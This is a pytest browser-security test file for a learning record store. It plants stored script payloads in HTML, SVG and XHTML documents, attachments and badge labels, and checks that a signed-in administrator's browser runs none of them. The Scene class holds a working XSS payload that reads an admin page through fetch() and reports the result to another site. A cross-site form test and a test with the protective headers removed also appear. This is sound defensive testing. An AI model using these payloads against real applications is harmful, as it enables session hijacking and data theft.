"""No script that somebody stored runs in a browser in which an administrator is signed in; made for ``make browser``.

A script that runs says so on the console and at another site, and tries what an attacker would: to read the pages with
the administrator's session. Without the headers of ``lrs.web.browsers`` it does, so these tests can fail.
"""

import html
import json
from base64 import b64encode
from contextlib import closing
from urllib.parse import quote

import pytest

import lrs.web.protocol
import lrs.xapi.documents.routes
import lrs.xapi.request
from lrs.access.keys import create_key
from lrs.storage import Walk
from tests.badges.made import BODY, badge_in, put_award, run_issue
from tests.browser.chromium import Chromium, Elsewhere, found
from tests.served import new_id, serving
from tests.xapi.statements.multipart import attached, part

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(found() is None, reason="there is no Chromium here: no script was tried"),
    pytest.mark.timeout(600),
]
AGENT = json.dumps({"mbox": "mailto:ana@example.org"})
ACTIVITY = "https://example.org/script"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>{}</script></svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{}</script></body></html>'
HTML = "<!doctype html><title>quiet</title><script>{}</script><img src=x onerror=\"console.log('ran')\">"
STATE, PROFILE, AGENTS = "activities/state", "activities/profile", "agents/profile"
DOCUMENTS = {
    "a state document as HTML": (STATE, "text/html", HTML),
    "a state document as SVG": (STATE, "image/svg+xml", SVG),
    "a state document as XHTML": (STATE, "application/xhtml+xml", XHTML),
    "a state document as XML": (STATE, "text/xml", XHTML),
    "a state document as a script": (STATE, "text/javascript", "{}"),
    "a state document as no type": (STATE, "x/y", HTML),
    "an activity profile": (PROFILE, "text/html; charset=utf-8", HTML),
    "an agent profile": (AGENTS, "text/html", HTML),
    "an agent profile as SVG": (AGENTS, "image/svg+xml", SVG),
}
documents = pytest.mark.parametrize("name", DOCUMENTS)


class Scene:
    """A server with scripts in it, another site, and a browser that is signed in to the server."""

    def __init__(self, served, elsewhere, browser):
        self.lrs, self.elsewhere, self.browser = served, elsewhere, browser
        self.script = (
            "console.log('ran');"
            f"fetch('{elsewhere.address}/ran');"
            "fetch('/staff/learners').then(a => a.text()).then(text => {"
            f"  const is = text.includes('Sign out'); console.log('signed in: ' + is);"
            f"  return fetch('{elsewhere.address}/acted?' + is); }}).catch(() => 0);"
        )
        self.key = served.as_key("state", "profile", "statements/write", "statements/read", name="content")
        self.headers = {
            "Authorization": "Basic " + b64encode(":".join(self.key.auth).encode()).decode(),
            "X-Experience-API-Version": "1.0.3",
        }
        for name, (resource, kind, body) in DOCUMENTS.items():
            sent = {"Content-Type": kind, "If-None-Match": "*"}
            content = body.format(self.script).encode()
            put = self.key.ask("PUT", resource, params=self.named(name), content=content, headers=sent)
            assert put.status_code == 204, put.text
        page = HTML.format(self.script).encode()
        self.statement = attached(page, contentType="text/html")
        mixed = b"--b\r\nContent-Type: application/json\r\n\r\n" + json.dumps(self.statement).encode() + b"\r\n--b\r\n"
        mixed += part(page, Content_Type="text/html") + b"\r\n--b--\r\n"
        assert self.key.post(mixed, type="multipart/mixed; boundary=b").status_code == 200
        put_award(served.tenant, competency=BODY["competency"] | {"label": HTML.format(self.script)})
        run_issue(served.tenant)
        self.achievement = served.tenant.store.find(Walk("achievement")).records[0].id
        self._sign_in(create_key(served.tenant, "operator", ["admin"]))

    def _sign_in(self, key):
        self.browser.open(f"{self.lrs.address}/pages/sign-in")
        self.browser.forget()
        fill = f"f.key.value = {key.key!r}; f.secret.value = {key.secret!r}; f.submit()"
        self.browser.run(f"(f => {{ {fill} }})(document.forms[0])")
        self.browser.await_answer(f"{self.lrs.address}/staff/learners")
        assert "Sign out" in self.browser.run("document.body.innerText")
        self.browser.forget()

    def named(self, name):
        """The parameters of a document."""
        about = {STATE: {"activityId": ACTIVITY, "agent": AGENT, "stateId": name}}
        about |= {PROFILE: {"activityId": ACTIVITY, "profileId": name}, AGENTS: {"agent": AGENT, "profileId": name}}
        return about[DOCUMENTS[name][0]]

    def address(self, resource, parameters):
        """Where it is read."""
        return str(
            self.lrs.clients[0].build_request("GET", f"{self.lrs.address}/xapi/{resource}", params=parameters).url
        )

    def form(self, resource, parameters, target="_self"):
        """A page of the other site, which sends the browser on by a form in the alternate request syntax."""
        fields = "".join(
            f'<input type="hidden" name="{html.escape(name)}" value="{html.escape(value)}">'
            for name, value in (parameters | self.headers).items()
        )
        action = f"{self.lrs.address}/xapi/{resource}?method=GET"
        form = f'<form method="post" action="{action}" target="{target}">{fields}</form>'
        return self.elsewhere.page(
            f"/{new_id()}", f'<iframe name="inner"></iframe>{form}<script>document.forms[0].submit()</script>'
        )

    def lead(self, resource, parameters, target="_self"):
        """Leads the browser to the other site's page with the form; what our server answered to it."""
        self.browser.open(self.form(resource, parameters, target))
        return self.browser.await_answer(self.lrs.address)

    def heard(self):
        """What scripts did, after everything that came before a page of the other site's own."""
        self.browser.open(self.elsewhere.page(f"/{new_id()}", "<script>console.log('the end')</script>"))
        assert self.browser.said[-1] == "the end"
        return self.browser.said[:-1], [path for path in self.elsewhere.asked if path.startswith(("/ran", "/acted"))]

    def forget(self):
        """Begins anew."""
        self.browser.forget()
        self.elsewhere.asked.clear()


@pytest.fixture(scope="module")
def scene(tmp_path_factory):
    with (
        closing(Elsewhere()) as elsewhere,
        closing(Chromium(found(), tmp_path_factory.mktemp("chromium"))) as browser,
        serving(tmp_path_factory.mktemp("lrs")) as served,
    ):
        yield Scene(served, elsewhere, browser)


@pytest.fixture(autouse=True)
def begun(scene):
    scene.forget()


@documents
def test_a_document_that_is_opened_runs_nothing(scene, name):
    scene.browser.open(scene.address(DOCUMENTS[name][0], scene.named(name)), **scene.headers)

    assert scene.browser.answers[-1][1] == 200
    assert scene.heard() == ([], [])


@documents
@pytest.mark.parametrize("target", ["_self", "inner"])
def test_a_document_that_another_sites_form_leads_to_runs_nothing(scene, name, target):
    assert scene.lead(DOCUMENTS[name][0], scene.named(name), target) == 200

    assert scene.heard() == ([], [])


def test_attachments_run_nothing(scene):
    parameters = {"statementId": scene.statement["id"], "attachments": "true"}

    scene.browser.open(scene.address("statements", parameters), **scene.headers)
    assert scene.lead("statements", parameters) == 200

    assert scene.heard() == ([], [])


def test_statements_and_refusals_with_a_script_in_them_run_nothing(scene):
    for parameters, status in (({"limit": "10"}, 200), ({"<script>console.log('ran')</script>": "1"}, 400)):
        scene.browser.open(scene.address("statements", parameters), **scene.headers)
        assert scene.lead("statements", parameters) == status
    scene.browser.open(f"{scene.lrs.address}/" + quote("<script>console.log('ran')</script>"))

    assert scene.heard() == ([], [])


def test_a_page_about_an_achievement_shows_a_script_as_text(scene):
    scene.browser.open(f"{scene.lrs.address}/t/default/achievements/{scene.achievement}")

    assert "console.log('ran')" in scene.browser.run("document.body.innerText")
    assert scene.heard() == ([], [])


def test_a_badge_that_an_administrator_opens_runs_nothing(scene):
    badge = badge_in(scene.lrs.tenant)[0]

    scene.browser.open(f"{scene.lrs.address}/pages/badges/{badge.id}")

    assert scene.heard() == ([], [])


def test_the_same_document_acts_as_the_administrator_where_the_headers_are_taken_away(scene, monkeypatch):
    monkeypatch.setattr(lrs.xapi.documents.routes, "ATTACHMENT", ("x-nothing", "here"))
    monkeypatch.setattr(lrs.xapi.request, "CLOSED", ())
    monkeypatch.setattr(lrs.web.protocol, "closed", list)

    assert scene.lead(STATE, scene.named("a state document as HTML")) == 200
    scene.browser.await_line("signed in: true")

    assert "ran" in scene.browser.said
